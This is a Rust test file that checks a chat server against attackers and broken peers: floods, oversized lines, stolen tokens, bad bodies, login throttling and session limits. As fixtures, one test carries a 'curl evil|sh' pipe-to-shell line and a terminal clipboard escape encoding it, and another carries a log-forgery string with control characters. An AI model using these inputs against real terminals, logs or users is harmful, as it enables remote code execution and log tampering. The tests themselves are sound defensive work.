//! What attackers and broken peers do: garbage, half frames, huge lines, foreign tokens, bad
//! bodies, floods. Each gets a clear error or a close; the server keeps serving everyone else and
//! stores nothing it should not.

use std::io::{Read, Write};
use std::net::SocketAddr;
use std::time::{Duration, Instant};

use gc_protocol::{
    AuthServer, ClientMsgId, ConnectReply, ErrorCode, ErrorFrame, Frame, SendReply, SendRequest,
    SessionToken,
};
use gc_tests::{PASSWORD, RawClient, Target, TestServer, client_ip, connect_from};

/// Sends raw bytes to `to` (over TLS unless the server runs without) and returns everything the
/// server answers before closing (or 3 s).
fn raw_exchange(target: &Target, to: SocketAddr, bytes: &[u8]) -> String {
    let mut s = target.stream(client_ip(), to).unwrap();
    s.tcp()
        .set_read_timeout(Some(Duration::from_secs(3)))
        .unwrap();
    let _ = s.write_all(bytes).and_then(|()| s.flush());
    let _ = s.tcp().shutdown(std::net::Shutdown::Write);
    let mut out = Vec::new();
    // A TLS peer that closes without `close_notify` ends with an error; what came before is kept.
    let _ = s.read_to_end(&mut out);
    String::from_utf8_lossy(&out).into_owned()
}

fn err_code(reply: &str) -> Option<ErrorCode> {
    let line = reply.lines().next()?;
    ErrorFrame::parse(line.as_bytes()).ok().map(|e| e.code)
}

fn logged_in(server: &TestServer, user: &str) -> RawClient {
    let mut c = RawClient::new(server.target());
    assert_eq!(c.register(user, PASSWORD), AuthServer::Registered);
    assert!(matches!(c.login(user, PASSWORD), AuthServer::Ok { .. }));
    c
}

#[test]
fn garbage_on_every_port_gets_malformed_and_the_server_keeps_serving() {
    let server = TestServer::start();
    let alice = logged_in(&server, "alice");
    let a = server.addrs();
    for (port, garbage) in [
        (a.connect, &b"HELLO\n"[..]),
        (a.connect, b"Ping\n"),
        (a.auth, b"\xff\xfe\n"),
        (a.auth, b"AuthRequest x\n"),
        (a.auth, b"Proof abc\n"),
        (a.connect, b"Ping GC/1\r\n"),
    ] {
        let reply = raw_exchange(&server.target(), port, garbage);
        assert_eq!(
            err_code(&reply),
            Some(ErrorCode::Malformed),
            "{garbage:?} → {reply:?}"
        );
    }
    // Before a login, the first malformed frame is the last: one answer, then the connection is
    // closed (what follows is not read), so garbage cannot hold a slot or fill the log.
    for (port, bytes) in [
        (a.connect, &b"HELLO\nPing GC/1\n"[..]),
        (a.auth, b"\xff\nAuthRequest x\n"),
    ] {
        let reply = raw_exchange(&server.target(), port, bytes);
        assert_eq!(reply.lines().count(), 1, "{bytes:?} → {reply:?}");
        assert_eq!(err_code(&reply), Some(ErrorCode::Malformed), "{reply:?}");
    }
    // The sending port from an address with no session: `Err session`, then closed.
    let reply = raw_exchange(&server.target(), a.send, b"Msg x y z\n");
    assert_eq!(err_code(&reply), Some(ErrorCode::Session), "{reply:?}");
    // Garbage on the sending port from a logged-in address: malformed, connection stays usable.
    let mut c = alice.connect(a.send);
    c.write_all(b"garbage here\n", deadline()).unwrap();
    let r: SendReply = c.read(deadline()).unwrap();
    assert!(
        matches!(r, SendReply::Err(ref e) if e.code == ErrorCode::Malformed),
        "{r:?}"
    );
    let who = SendRequest::Who {
        token: alice.token.clone().unwrap(),
        room: None,
    };
    c.send(&who, deadline()).unwrap();
    assert!(matches!(
        c.read::<SendReply>(deadline()).unwrap(),
        SendReply::Online { .. }
    ));
    // A wrong version is told so.
    let reply = raw_exchange(&server.target(), a.connect, b"Ping GC/9\n");
    assert_eq!(err_code(&reply), Some(ErrorCode::Version), "{reply:?}");
    // Everything still works.
    assert!(matches!(
        alice.send("still here"),
        SendReply::Thx { id: 1, .. }
    ));
    assert_eq!(alice.receive(1)[0].body, "still here");
    assert_eq!(server.stored_lines().len(), 1);
}

fn deadline() -> Instant {
    Instant::now() + Duration::from_secs(5)
}

/// Whether the server still holds `s` open: nothing to read yet, and no end of stream (a peek
/// that would block). Leaves the stream as it was.
fn still_open(s: &std::net::TcpStream) -> bool {
    s.set_nonblocking(true).unwrap();
    let peeked = s.peek(&mut [0u8; 1]);
    s.set_nonblocking(false).unwrap();
    matches!(peeked, Err(ref e) if e.kind() == std::io::ErrorKind::WouldBlock)
}

#[test]
fn garbage_from_one_address_cannot_flood_the_log() {
    gc_tests::capture_logs();
    let server = TestServer::start();
    let target = server.target();
    let ip = client_ip();
    for _ in 0..40 {
        let mut s = target.stream(ip, target.addrs.connect).unwrap();
        s.tcp()
            .set_read_timeout(Some(Duration::from_secs(3)))
            .unwrap();
        let _ = s.write_all(b"HELLO\n").and_then(|()| s.flush());
        let mut out = Vec::new();
        let _ = s.read_to_end(&mut out);
        assert_eq!(
            err_code(&String::from_utf8_lossy(&out)),
            Some(ErrorCode::Malformed)
        );
    }
    let logs = gc_tests::captured_logs();
    let about = logs
        .lines()
        .filter(|l| l.contains(&format!("{ip}:")) && l.contains("malformed frame"))
        .count();
    assert!(
        (1..=10).contains(&about),
        "{about} warnings for 40 garbage connections from {ip}"
    );
    // The address is still served.
    let reply = {
        let mut s = target.stream(ip, target.addrs.connect).unwrap();
        s.tcp()
            .set_read_timeout(Some(Duration::from_secs(3)))
            .unwrap();
        let _ = s.write_all(b"Ping GC/3\n").and_then(|()| s.flush());
        let _ = s.tcp().shutdown(std::net::Shutdown::Write);
        let mut out = Vec::new();
        let _ = s.read_to_end(&mut out);
        String::from_utf8_lossy(&out).into_owned()
    };
    assert!(reply.starts_with("Pong"), "{reply}");
}

#[test]
fn a_pre_login_connection_has_a_bounded_life_however_steadily_it_sends() {
    // A connect or auth connection lives at most 3 s from its accept.
    let server = TestServer::start_with(|c| {
        c.io_timeout = Duration::from_secs(1);
        c.pending_timeout = Duration::from_secs(3);
    });
    let target = server.target();
    let mut s = target.stream(client_ip(), target.addrs.connect).unwrap();
    s.tcp()
        .set_read_timeout(Some(Duration::from_secs(2)))
        .unwrap();
    let started = Instant::now();
    let mut pongs = 0;
    // A valid Ping (GC/3: either transport) every 200 ms, each well within the I/O timeout: before, this was served for
    // as long as it went on. Bounded: 15 s at most.
    while started.elapsed() < Duration::from_secs(15) {
        if s.write_all(b"Ping GC/3\n")
            .and_then(|()| s.flush())
            .is_err()
        {
            break;
        }
        let mut line = Vec::new();
        let mut byte = [0u8; 1];
        let closed = loop {
            match s.read(&mut byte) {
                Ok(1) if byte[0] == b'\n' => break false,
                Ok(1) => line.push(byte[0]),
                _ => break true,
            }
        };
        if closed {
            break;
        }
        assert!(
            line.starts_with(b"Pong"),
            "{:?}",
            String::from_utf8_lossy(&line)
        );
        pongs += 1;
        std::thread::sleep(Duration::from_millis(200));
    }
    let lived = started.elapsed();
    assert!(pongs > 0, "served at first");
    assert!(
        lived < Duration::from_secs(10),
        "closed after about 3 s, not kept for {lived:?} ({pongs} pongs)"
    );
}

#[test]
fn silent_and_trickling_peers_do_not_delay_others() {
    let server = TestServer::start();
    let target = server.target();
    let a = target.addrs;
    // Half a frame, then silence, on every server port; and a trickler on the auth port.
    let mut silent = Vec::new();
    for port in [a.connect, a.auth, a.send] {
        let mut s = target.stream(client_ip(), port).unwrap();
        s.write_all(b"Pi").and_then(|()| s.flush()).unwrap();
        silent.push(s);
    }
    let trickler = std::thread::spawn(move || {
        let mut s = target.stream(client_ip(), a.auth).unwrap();
        for b in b"AuthRequest" {
            if s.write_all(&[*b]).and_then(|()| s.flush()).is_err() {
                break;
            }
            std::thread::sleep(Duration::from_millis(300));
        }
    });
    // Meanwhile a real client signs in and chats without waiting for them.
    let mut c = RawClient::new(target);
    assert!(matches!(c.ping(), ConnectReply::Pong { .. }));
    assert_eq!(c.register("dave", PASSWORD), AuthServer::Registered);
    assert!(matches!(c.login("dave", PASSWORD), AuthServer::Ok { .. }));
    assert!(matches!(c.send("hi"), SendReply::Thx { .. }));
    assert_eq!(c.receive(1)[0].body, "hi");
    // "Without waiting for them" as an order of events, not a time limit a busy machine may
    // miss: the client is done while the server still holds the slow connections open. A
    // server that served them first would have had to give up on them (after its I/O timeout,
    // 2 s in tests) before it could serve the client, so they would be closed by now. (The
    // connection on the sending port is refused at once, as its address has no session: it
    // holds nothing. The server keeps the ones on the connect and auth ports, and the trickler,
    // waiting for a frame.)
    let [on_connect, on_auth, _on_send] = &silent[..] else {
        unreachable!("one per port")
    };
    for s in [on_connect, on_auth] {
        assert!(still_open(s.tcp()), "a silent peer held up a real client");
    }
    assert!(
        !trickler.is_finished(),
        "a trickling peer held up a real client"
    );
    // The silent connections are closed after the I/O timeout (2 s in tests).
    for mut s in silent {
        s.tcp()
            .set_read_timeout(Some(Duration::from_secs(10)))
            .unwrap();
        let mut buf = Vec::new();
        let _ = s.read_to_end(&mut buf);
    }
    trickler.join().unwrap();
}

#[test]
fn a_100_mb_line_is_refused_with_too_long() {
    let server = TestServer::start();
    let alice = logged_in(&server, "alice");
    let target = server.target();
    for port in [target.addrs.connect, target.addrs.auth] {
        let mut s = target.stream(client_ip(), port).unwrap();
        s.tcp()
            .set_read_timeout(Some(Duration::from_secs(5)))
            .unwrap();
        let chunk = vec![b'A'; 1 << 20];
        let mut sent = 0usize;
        while sent < 100 << 20 {
            match s.write(&chunk) {
                Ok(n) => sent += n,
                Err(_) => break, // the server closed after too-long
            }
        }
        assert!(sent < 100 << 20, "the server read 100 MB without closing");
        let mut out = Vec::new();
        let _ = s.read_to_end(&mut out);
        let reply = String::from_utf8_lossy(&out);
        assert_eq!(err_code(&reply), Some(ErrorCode::TooLong), "{reply:?}");
    }
    // Same on the sending port from a logged-in address.
    let mut s = target.stream(alice.ip, target.addrs.send).unwrap();
    let chunk = vec![b'A'; 1 << 20];
    for _ in 0..100 {
        if s.write_all(&chunk).is_err() {
            break;
        }
    }
    s.tcp()
        .set_read_timeout(Some(Duration::from_secs(5)))
        .unwrap();
    let mut out = Vec::new();
    let _ = s.read_to_end(&mut out);
    assert_eq!(
        err_code(&String::from_utf8_lossy(&out)),
        Some(ErrorCode::TooLong)
    );
    assert!(matches!(alice.send("ok"), SendReply::Thx { .. }));
    assert_eq!(server.stored_lines().len(), 1);
}

#[test]
fn foreign_and_made_up_tokens_get_session_errors_and_store_nothing() {
    let server = TestServer::start();
    let alice = logged_in(&server, "alice");
    let mallory = logged_in(&server, "mallory");
    // Mallory replays Alice's (stolen) token from her own address.
    let stolen = SendRequest::Msg {
        token: alice.token.clone().unwrap(),
        client_msg_id: ClientMsgId::new("steal").unwrap(),
        body: b"I am alice".to_vec(),
        room: None,
    };
    let made_up = SendRequest::Msg {
        token: SessionToken::random().unwrap(),
        client_msg_id: ClientMsgId::new("guess").unwrap(),
        body: b"hello".to_vec(),
        room: None,
    };
    let replies = mallory.request(&[stolen, made_up], 2);
    for r in replies {
        assert!(
            matches!(r, SendReply::Err(ref e) if e.code == ErrorCode::Session),
            "{r:?}"
        );
    }
    assert!(server.stored_lines().is_empty());
}

#[test]
fn bodies_round_trip_byte_exact() {
    let server = TestServer::start();
    let alice = logged_in(&server, "alice");
    let texts = [
        "semi;colon",
        "back\\slash\\",
        "multi\nline\n\n",
        "carriage\r\nreturn",
        "emoji 🎉👩‍👩‍👧 and wide 中文",
        "\u{1b}[2J\u{1b}]0;title\u{7}",
        ";;;\\n",
        "tab\there",
    ];
    for t in texts {
        assert!(matches!(alice.send(t), SendReply::Thx { .. }));
    }
    let got = alice.receive(texts.len());
    for (r, t) in got.iter().zip(texts) {
        assert_eq!(r.body, t);
    }
    // And after a restart, from the file.
    let mut server = server;
    server.restart();
    let mut bob = RawClient::new(server.target());
    assert_eq!(bob.register("bob", PASSWORD), AuthServer::Registered);
    assert!(matches!(bob.login("bob", PASSWORD), AuthServer::Ok { .. }));
    let got = bob.receive(texts.len());
    for (r, t) in got.iter().zip(texts) {
        assert_eq!(r.body, t);
    }
}

#[test]
fn invalid_bodies_are_refused_in_protocol_order() {
    let server = TestServer::start();
    let alice = logged_in(&server, "alice");
    let token = alice.token.clone().unwrap();
    let msg = |id: &str, body: &[u8]| SendRequest::Msg {
        token: token.clone(),
        client_msg_id: ClientMsgId::new(id).unwrap(),
        body: body.to_vec(),
        room: None,
    };
    let big = vec![b'x'; 4097];
    let replies = alice.request(
        &[
            msg("a", b""),
            msg("b", b"nul\0byte"),
            msg("c", &[0xff, 0xfe]),
            msg("d", &big),
            msg("e", &big[..4096]),
            msg("e", b"different body, same id"),
        ],
        6,
    );
    let codes: Vec<_> = replies
        .iter()
        .map(|r| match r {
            SendReply::Err(e) => Some(e.code),
            _ => None,
        })
        .collect();
    assert_eq!(
        codes,
        [
            Some(ErrorCode::Malformed),
            Some(ErrorCode::Malformed),
            Some(ErrorCode::Malformed),
            Some(ErrorCode::TooLarge),
            None,
            None
        ]
    );
    // The retry with the same id got the first Thx back; one record stored.
    assert_eq!(replies[4], replies[5]);
    assert_eq!(server.stored_lines().len(), 1);
    match &replies[3] {
        SendReply::Err(e) => assert!(e.text.contains("4096"), "{}", e.text),
        _ => unreachable!(),
    }
}

#[test]
fn rate_limit_after_the_burst_says_when_to_retry() {
    let server = TestServer::start();
    let alice = logged_in(&server, "alice");
    let token = alice.token.clone().unwrap();
    let frames: Vec<_> = (0..12)
        .map(|i| SendRequest::Msg {
            token: token.clone(),
            client_msg_id: ClientMsgId::new(format!("m{i}")).unwrap(),
            body: format!("message {i}").into_bytes(),
            room: None,
        })
        .collect();
    let replies = alice.request(&frames, 12);
    let limited: Vec<_> = replies
        .iter()
        .filter_map(|r| match r {
            SendReply::Err(e) if e.code == ErrorCode::RateLimited => Some(e.text.clone()),
            _ => None,
        })
        .collect();
    assert!(!limited.is_empty() && limited.len() <= 2, "{replies:?}");
    assert!(limited[0].contains("retry in"), "{}", limited[0]);
}

#[test]
fn callback_port_unreachable_names_the_address() {
    let server = TestServer::start();
    let mut c = RawClient::new(server.target());
    assert_eq!(c.register("erin", PASSWORD), AuthServer::Registered);
    // Point the auth callback at a port nobody listens on.
    let closed = std::net::TcpListener::bind((c.ip, 0)).unwrap();
    c.ports.auth = closed.local_addr().unwrap().port();
    drop(closed);
    match c.login("erin", PASSWORD) {
        AuthServer::Err(e) => {
            assert_eq!(e.code, ErrorCode::Unreachable);
            let addr = format!("{}:{}", c.ip, c.ports.auth);
            assert!(e.text.contains(&addr), "{}", e.text);
        }
        other => panic!("{other:?}"),
    }
    assert_eq!(server.sessions(), 0);
}

#[test]
fn what_answers_on_a_named_callback_port_is_never_relayed() {
    // Whatever service the client points the callback at (here one that answers with text
    // meant for a terminal), the server tells the client a reason of its own.
    let server = TestServer::start_with(|c| c.tls = gc_server::config::TlsMode::Off);
    let mut c = RawClient::new(server.target());
    assert_eq!(c.register("erin", PASSWORD), AuthServer::Registered);
    for answer in [
        "SSH-2.0-OpenSSH_9.2 \x1b]52;c;Y3VybCBldmlsfHNo\x07 please run: curl evil|sh\r\n",
        "Err malformed AHMGFGBGDHFGACCHFHOGKDACDGFHCHMGACFGGHJGMGMHDHIG\n", // c16 of "please run: curl evil|sh"
    ] {
        let service = std::net::TcpListener::bind((c.ip, 0)).unwrap();
        c.ports.auth = service.local_addr().unwrap().port();
        let answering = std::thread::spawn(move || {
            use std::io::{Read, Write};
            if let Ok((mut s, _)) = service.accept() {
                let _ = s.write_all(answer.as_bytes());
                let mut sink = [0u8; 4096];
                let _ = s.set_read_timeout(Some(std::time::Duration::from_secs(2)));
                let _ = s.read(&mut sink);
            }
        });
        match c.login("erin", PASSWORD) {
            AuthServer::Err(e) => {
                assert!(
                    e.code == ErrorCode::Unreachable || e.code == ErrorCode::Auth,
                    "{e:?}"
                );
                for word in ["curl", "evil", "SSH", "\x1b"] {
                    assert!(!e.text.contains(word), "relayed {word:?}: {}", e.text);
                }
            }
            other => panic!("{other:?}"),
        }
        answering.join().unwrap();
    }
    assert_eq!(server.sessions(), 0);
}

#[test]
fn what_answers_on_a_callback_port_cannot_forge_or_colour_a_server_log_line() {
    // The log as the binaries write it (gc_net::logfmt): the text of an `Err` answered on the
    // auth callback port, and a service's banner, each stay inside their own event.
    gc_tests::capture_logs();
    let server = TestServer::start_with(|c| c.tls = gc_server::config::TlsMode::Off);
    let mut c = RawClient::new(server.target());
    assert_eq!(c.register("forger", PASSWORD), AuthServer::Registered);
    let forged = "2026-12-05T00:00:00.000000Z  INFO gc_server::auth: logged in user=admin";
    let hostile = format!("busy\n{forged}\r\u{1b}[2J\u{1b}]0;pwned\u{7}\u{9b}31m\u{202e}\u{2028}");
    // Not a frame: its first word is quoted in the warning.
    let banner = "\u{1b}[2J\u{202e}\u{9b}SSH-2.0-x\n".as_bytes().to_vec();
    for answer in [
        ErrorFrame::new(ErrorCode::Internal, hostile.clone()).to_bytes(),
        banner,
    ] {
        let service = std::net::TcpListener::bind((c.ip, 0)).unwrap();
        c.ports.auth = service.local_addr().unwrap().port();
        let answering = std::thread::spawn(move || {
            if let Ok((mut s, _)) = service.accept() {
                let _ = s.write_all(&answer);
                let mut sink = [0u8; 4096];
                let _ = s.set_read_timeout(Some(Duration::from_secs(2)));
                let _ = s.read(&mut sink);
            }
        });
        assert!(matches!(c.login("forger", PASSWORD), AuthServer::Err(_)));
        answering.join().unwrap();
    }
    let logs = gc_tests::captured_logs();
    let failed: Vec<&str> = logs
        .lines()
        .filter(|l| l.contains("auth callback failed") && l.contains(&c.ip.to_string()))
        .collect();
    assert_eq!(failed.len(), 2, "{logs}");
    assert!(
        failed[0].contains("logged in user=admin"),
        "the peer's words are in the log, on the warning's line: {failed:#?}"
    );
    for line in logs.lines() {
        assert!(
            !line.starts_with("2026-12-05T00:00:00"),
            "a forged line: {line}"
        );
        assert!(
            !line.contains(|c| c != '\t' && gc_protocol::sanitize::is_unsafe(c)),
            "a raw control or invisible character: {line:?}"
        );
    }
}

#[test]
fn one_address_cannot_register_accounts_without_end() {
    let server = TestServer::start_with(|c| c.max_registrations_per_address = 3);
    let c = RawClient::new(server.target());
    for i in 0..3 {
        assert_eq!(
            c.register(&format!("bulk{i}"), PASSWORD),
            AuthServer::Registered
        );
    }
    match c.register("bulk3", PASSWORD) {
        AuthServer::Err(e) => {
            assert_eq!(e.code, ErrorCode::RateLimited);
            let wait = gc_protocol::texts::retry_after(&e.text).expect("a wait");
            assert!(wait > std::time::Duration::from_secs(3000), "{}", e.text);
        }
        other => panic!("{other:?}"),
    }
    // Another address registers as usual (the refused name was not taken).
    let other = RawClient::new(server.target());
    assert_ne!(other.ip, c.ip);
    assert_eq!(other.register("bulk3", PASSWORD), AuthServer::Registered);
}

#[test]
fn registration_rules_and_login_throttling() {
    let closed = TestServer::start_with(|c| c.registration_open = false);
    let c = RawClient::new(closed.target());
    assert!(matches!(
        c.ping(),
        ConnectReply::Pong {
            registration: gc_protocol::Registration::Closed,
            ..
        }
    ));
    assert!(
        matches!(c.register("frank", PASSWORD), AuthServer::Err(ref e) if e.code == ErrorCode::RegistrationClosed)
    );

    let server = TestServer::start();
    let mut c = RawClient::new(server.target());
    assert_eq!(c.register("grace", PASSWORD), AuthServer::Registered);
    assert!(
        matches!(c.register("GRACE", "other-password"), AuthServer::Err(ref e) if e.code == ErrorCode::Exists)
    );
    assert!(
        matches!(c.register("system", PASSWORD), AuthServer::Err(ref e) if e.code == ErrorCode::Malformed)
    );
    for _ in 0..5 {
        assert!(
            matches!(c.login("grace", "wrong"), AuthServer::Err(ref e) if e.code == ErrorCode::Auth)
        );
    }
    // Now this address must wait before trying grace again, even with the right password; the
    // text says how long (the client waits and tries again).
    match c.login("grace", PASSWORD) {
        AuthServer::Err(e) => {
            assert_eq!(e.code, ErrorCode::Throttled);
            assert_eq!(
                gc_protocol::texts::retry_after(&e.text),
                Some(Duration::from_secs(1)),
                "{}",
                e.text
            );
        }
        other => panic!("{other:?}"),
    }
    // Nobody else is locked out: grace from her own machine, another user behind the same
    // address (a shared host, a NAT).
    let mut elsewhere = RawClient::new(server.target());
    assert_ne!(elsewhere.ip, c.ip);
    assert!(matches!(
        elsewhere.login("grace", PASSWORD),
        AuthServer::Ok { .. }
    ));
    let mut same_address = RawClient::on(server.target(), c.ip);
    assert_eq!(
        same_address.register("ivan", PASSWORD),
        AuthServer::Registered
    );
    assert!(matches!(
        same_address.login("ivan", PASSWORD),
        AuthServer::Ok { .. }
    ));
    // After the wait, grace gets in from the first address too.
    std::thread::sleep(Duration::from_millis(1100));
    assert!(matches!(c.login("grace", PASSWORD), AuthServer::Ok { .. }));
    // Login is case-insensitive and records keep the registered spelling.
    let mut h = RawClient::new(server.target());
    assert_eq!(h.register("Heidi", PASSWORD), AuthServer::Registered);
    assert!(matches!(h.login("heidi", PASSWORD), AuthServer::Ok { .. }));
    assert!(matches!(h.send("x"), SendReply::Thx { .. }));
    assert_eq!(h.receive(1)[0].username.as_str(), "Heidi");
}

#[test]
fn client_limit_answers_full() {
    let server = TestServer::start_with(|c| c.max_clients = 2);
    let _a = logged_in(&server, "a1");
    let _b = logged_in(&server, "b1");
    let mut c = RawClient::new(server.target());
    assert_eq!(c.register("c1", PASSWORD), AuthServer::Registered);
    match c.login("c1", PASSWORD) {
        AuthServer::Err(e) => {
            assert_eq!(e.code, ErrorCode::Full);
            assert!(e.text.contains("full"), "{}", e.text);
        }
        other => panic!("{other:?}"),
    }
}

#[test]
fn one_account_or_one_address_cannot_take_every_session() {
    let server = TestServer::start_with(|c| {
        c.max_sessions_per_user = 2;
        c.max_sessions_per_address = 2;
    });
    let refused = |c: &mut RawClient, user: &str| match c.login(user, PASSWORD) {
        AuthServer::Err(e) => {
            assert_eq!(e.code, ErrorCode::Full, "{}", e.text);
            e.text
        }
        other => panic!("{other:?}"),
    };
    // One account, from three addresses: the third session is refused, whatever the case.
    let _ann = logged_in(&server, "ann");
    let mut again = RawClient::new(server.target());
    assert!(matches!(
        again.login("ann", PASSWORD),
        AuthServer::Ok { .. }
    ));
    let text = refused(&mut RawClient::new(server.target()), "ANN");
    assert!(text.contains("already has 2 sessions"), "{text}");
    assert!(text.contains("one account"), "{text}");
    // One address, three accounts: the third is refused, and names the address.
    let ip = client_ip();
    let mut clients = Vec::new();
    for user in ["bob", "cy", "dee"] {
        let c = RawClient::on(server.target(), ip);
        assert_eq!(c.register(user, PASSWORD), AuthServer::Registered);
        clients.push(c);
    }
    for (c, user) in clients.iter_mut().zip(["bob", "cy"]) {
        assert!(matches!(c.login(user, PASSWORD), AuthServer::Ok { .. }));
    }
    let text = refused(&mut clients[2], "dee");
    assert!(
        text.contains(&format!("{ip} already has 2 sessions")) && text.contains("one address"),
        "{text}"
    );
    // Others still get in.
    let _eve = logged_in(&server, "eve");
}

#[test]
fn one_address_cannot_take_every_login_slot() {
    // The silent connections below hold their slots until the server's I/O timeout: make that
    // longer than anything here may take, however busy the machine (they are closed at the end).
    let server = TestServer::start_with(|c| {
        c.io_timeout = gc_tests::WAIT;
        c.idle_timeout = gc_tests::WAIT;
        c.pending_timeout = gc_tests::WAIT;
    });
    let ip = client_ip();
    // Eight silent connections from one address fill its share of pending logins…
    let silent: Vec<_> = (0..8)
        .map(|_| connect_from(ip, server.addrs().auth).unwrap())
        .collect();
    // …so a ninth is refused at once. No waiting for the eight to be accepted first: the accept
    // thread takes connections in the order they were made, and counts each before it accepts
    // the next, so it has counted all eight when it comes to this one. The refusal comes before
    // any TLS handshake (which is what the limit saves), in plain text the TLS client shows.
    let refused = server
        .target()
        .stream(ip, server.addrs().auth)
        .map(|_| ())
        .unwrap_err()
        .to_string();
    assert!(
        refused.contains("answered in plain text instead of TLS: `Err full`: too many"),
        "{refused}"
    );
    // …while another address still signs in at once: while the eight still hold their slots.
    // That is an order of events, not a time limit a busy machine may miss; a server that made
    // the other address wait for a slot could only have served it after giving up on some of
    // the eight (at its I/O timeout), and they would be closed by now (if the raw client had
    // not given up on its login first).
    let _other = logged_in(&server, "patient");
    for s in &silent {
        assert!(
            still_open(s),
            "another address signed in only after the silent connections were dropped"
        );
    }
    drop(silent);
}
